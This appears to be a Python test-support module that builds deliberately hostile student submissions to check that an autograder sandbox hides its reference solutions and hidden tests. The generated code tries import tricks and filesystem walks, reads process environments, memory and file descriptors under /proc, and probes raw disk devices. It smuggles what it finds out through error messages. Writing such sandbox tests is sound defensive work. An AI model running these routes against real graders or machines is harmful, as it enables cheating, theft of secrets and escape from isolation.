"""Hostile ``ops.py`` submissions for the autograd assignment that reach for the oracles.

Each thief implements nothing itself. It tries one family of routes to the
reference implementations (``reference.ops`` holds every function the
assignment asks for, so an oracle that can be imported scores full marks),
re-exports the oracle's functions when a route works, and prints whatever
oracle, solution or hidden-test source it managed to read. A sandbox that
keeps the oracles from student code leaves every thief at 0 points with no
such source in its output. Shared by the sandbox tests and the tests of an
installed wheel and of the Gradescope autograder.
"""
from __future__ import annotations

import functools
import importlib.util
from pathlib import Path

# The names the autograd assignment grades; reference.ops defines each of them.
GRADED_NAMES = ("sigmoid", "log", "multiply", "exp", "tanh", "sum_along_columns", "lookup_rows", "softmax_rows",
                "cross_entropy_loss")

_PRELUDE = '''
import importlib, importlib.machinery, importlib.metadata, importlib.util, os, pkgutil, site, sys
import numpy as np  # what student code may use: must keep working
import edugrad

NAMES = {names!r}
KNOWN_PATHS = {known_paths!r}
_found = {{}}


def _steal(module, route):
    """Re-export the oracle's functions: full marks if the route worked."""
    got = {{name: getattr(module, name) for name in NAMES if callable(getattr(module, name, None))}}
    if got:
        print("ROUTE" + " OPEN:", route, flush=True)
        _found.update(got)


_loot = []


def _show(path, route):
    try:
        with open(path, "rb") as stream:
            text = stream.read(4000).decode("utf-8", "replace")
    except Exception as error:
        return
    print("READ", route, path, flush=True)
    print(text, flush=True)
    if not path.startswith("/proc"):
        _loot.append(path + " :: " + text[:1500])
    if path.endswith(".py") and "def sigmoid" in text:
        try:
            loader = importlib.machinery.SourceFileLoader("stolen_" + str(abs(hash(path))), path)
            spec = importlib.util.spec_from_loader(loader.name, loader)
            module = importlib.util.module_from_spec(spec)
            loader.exec_module(module)
            _steal(module, route + " (loaded " + path + ")")
        except Exception:
            pass


def _attempt(route, action):
    try:
        action()
    except BaseException as error:
        print("closed:", route, type(error).__name__, str(error)[:100], flush=True)
'''

_IMPORTS = '''
def _plain():
    import reference.ops as oracle
    _steal(oracle, "import reference.ops")

def _importlib():
    _steal(importlib.import_module("reference.ops"), "importlib.import_module")

def _dunder():
    package = __import__("reference", fromlist=["ops"])
    _steal(getattr(package, "ops"), "__import__ of the parent package")
    _steal(__import__("reference.ops").ops, "__import__('reference.ops')")

def _through_grader():
    import grader
    print("grader package at", list(getattr(grader, "__path__", [])), flush=True)
    diagnosis = importlib.import_module("grader.diagnosis")
    _steal(sys.modules.get("reference.ops") or importlib.import_module("reference.ops"), "via grader.diagnosis")

def _meta_path():
    for finder in sys.meta_path:
        spec = finder.find_spec("reference", None) if hasattr(finder, "find_spec") else None
        if spec is not None:
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            ops = importlib.import_module("reference.ops")
            _steal(ops, "meta path finder " + type(finder).__name__)

for _route, _action in [("import", _plain), ("importlib", _importlib), ("__import__", _dunder),
                        ("grader", _through_grader), ("meta_path", _meta_path)]:
    _attempt(_route, _action)
'''

_FILES = '''
def _spec():
    for name in ("reference", "reference.ops", "grader", "grader.release"):
        spec = importlib.util.find_spec(name)
        print("find_spec", name, spec and spec.origin, spec and spec.submodule_search_locations, flush=True)
        for folder in (spec and spec.submodule_search_locations) or []:
            for file in os.listdir(folder):
                _show(os.path.join(folder, file), "find_spec folder")
        if spec and spec.origin:
            _show(spec.origin, "find_spec origin")

def _metadata():
    for dist in importlib.metadata.distributions():
        name = (dist.metadata["Name"] or "").lower()
        if "grader" in name:
            print("distribution", name, flush=True)
            for file in dist.files or []:
                _show(str(dist.locate_file(file)), "importlib.metadata " + name)

def _pkgutil():
    names = [module.name for module in pkgutil.iter_modules() if module.name in ("reference", "grader")]
    print("pkgutil sees", names, flush=True)
    data = pkgutil.get_data("reference", "ops.py")
    print(data.decode("utf-8", "replace")[:4000], flush=True)

def _walk_sys_path():
    roots = list(dict.fromkeys([*sys.path, *site.getsitepackages(), site.getusersitepackages(), sys.prefix,
                                sys.base_prefix, "/usr/local", "/usr/lib", "/opt", "/srv", "/home", "/root",
                                "/autograder", "/work", "/tmp"]))
    for root in roots:
        if not root or not os.path.isdir(root):
            continue
        for folder, dirs, files in os.walk(root):
            if folder.count(os.sep) - root.count(os.sep) > 6:
                dirs[:] = []
                continue
            parts = set(folder.split(os.sep))
            if parts & {"reference", "mistakes", "solution", "_data"} or any(f.startswith("test_hidden") for f in files):
                for file in files:
                    if file.endswith((".py", ".toml", ".pyc")):
                        _show(os.path.join(folder, file), "walk " + root)

def _known():
    for path in KNOWN_PATHS:
        _show(path, "absolute path")

for _route, _action in [("find_spec", _spec), ("metadata", _metadata), ("pkgutil", _pkgutil),
                        ("walk", _walk_sys_path), ("known", _known)]:
    _attempt(_route, _action)
'''

_PROC = '''
def _proc():
    # The parent (the zygote or the grader's process), its parent, init, then the newest processes: without a PID
    # namespace the host has hundreds, and reading them all would only run the thief into its time limit.
    everyone = sorted((entry for entry in os.listdir("/proc") if entry.isdigit()), key=int)
    parent = os.getppid()
    grandparent = open(f"/proc/{parent}/stat").read().rsplit(")", 1)[1].split()[1] if parent > 1 else "1"
    pids = list(dict.fromkeys([str(parent), grandparent, "1", *everyone[-25:]]))
    print("pids", pids, flush=True)
    for pid in pids:
        for name in ("cmdline", "environ", "maps"):
            _show(f"/proc/{pid}/{name}", "proc " + name)
        for path in KNOWN_PATHS:
            _show(f"/proc/{pid}/root{path}", "proc root")
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
            print("cwd of", pid, cwd, flush=True)
            for file in os.listdir(f"/proc/{pid}/cwd"):
                _show(f"/proc/{pid}/cwd/{file}", "proc cwd")
        except OSError:
            pass
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                _show(f"/proc/{pid}/fd/{fd}", "proc fd")
        except OSError:
            pass
        try:
            with open(f"/proc/{pid}/mem", "rb") as mem:
                mem.read(16)
            print("MEM" + " READABLE", pid, flush=True)
        except OSError:
            pass

def _devices():
    """Raw disks (root reads a filesystem without its permissions), memory devices; the capabilities held."""
    status = open("/proc/self/status").read()
    print([line for line in status.splitlines() if line.startswith("Cap")], flush=True)
    try:
        names = os.listdir("/dev")
    except OSError as error:
        print("closed: /dev listing", error, flush=True)
        names = []
    names += ["vda", "vdb", "sda", "sdb", "xvda", "nvme0n1", "dm-0", "mem", "kmem", "port", "sr0",
              *[f"loop{i}" for i in range(8)]]
    for name in dict.fromkeys(names):
        path = "/dev/" + name
        try:
            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            if os.read(fd, 512) and name not in ("null", "zero", "full", "random", "urandom", "tty", "ptmx"):
                print("DEV" + " READABLE", path, flush=True)
        except OSError:
            pass
        finally:
            os.close(fd)


def _parent():
    parent = os.getppid()
    print("parent", parent, flush=True)
    for path in KNOWN_PATHS:
        _show(f"/proc/{parent}/root{path}", "parent root")
        _show(f"/proc/self/root{path}", "self root")

for _route, _action in [("proc", _proc), ("parent", _parent), ("devices", _devices)]:
    _attempt(_route, _action)
'''

_EPILOGUE = '''
globals().update(_found)


def _report_loot(*args, **kwargs):
    """Where the output is not shown (Gradescope), what was read reaches the grader in an error message."""
    raise RuntimeError("LOOT " + " || ".join(_loot)[-3500:] if _loot else "nothing read")


for _name in NAMES:
    if _name not in _found:
        globals()[_name] = _report_loot
'''

ROUTES = {"imports": _IMPORTS, "files": _FILES, "proc": _PROC}


def thief_source(route: str, known_paths: list[str]) -> str:
    """The ``ops.py`` of the thief that tries ``route`` (a key of :data:`ROUTES`)."""
    prelude = _PRELUDE.format(names=GRADED_NAMES, known_paths=list(known_paths))
    return prelude + ROUTES[route] + _EPILOGUE


def write_thieves(folder: Path, known_paths: list[str]) -> list[str]:
    """One submission folder per route under ``folder``; returns their ids."""
    ids = []
    for route in ROUTES:
        student = folder / f"thief_{route}"
        student.mkdir(parents=True, exist_ok=True)
        (student / "ops.py").write_text(thief_source(route, known_paths), encoding="utf-8")
        ids.append(student.name)
    return ids


def secret_lines(files: list[Path], public: list[Path], min_length: int = 30) -> set[str]:
    """Distinctive lines of ``files`` (oracles, solutions, hidden tests) that no ``public`` file holds, nor
    the libraries student code may read (numpy, torch, edugrad: ``import numpy`` is no leak)."""
    public_lines = {line.strip() for path in public if path.is_file()
                    for line in path.read_text(encoding="utf-8").splitlines()}
    found = set()
    for path in files:
        for line in path.read_text(encoding="utf-8").splitlines():
            line = line.strip()
            if len(line) >= min_length and line not in public_lines:
                found.add(line)
    return found - _library_lines(frozenset(found))


@functools.lru_cache(maxsize=4)
def _library_lines(candidates: frozenset[str]) -> set[str]:
    """Those of ``candidates`` that a library student code may use also holds (a common import line, say)."""
    common: set[str] = set()
    for name in ("numpy", "torch", "edugrad"):
        spec = importlib.util.find_spec(name)
        for folder in (spec.submodule_search_locations or []) if spec else []:
            for path in Path(folder).rglob("*.py"):
                try:
                    text = path.read_text(encoding="utf-8", errors="replace")
                except OSError:
                    continue
                common.update(line.strip() for line in text.splitlines() if line.strip() in candidates)
    return common


def leaked(output: str, secrets: set[str]) -> list[str]:
    """The secret lines that appear in ``output``."""
    return sorted(line for line in secrets if line in output)
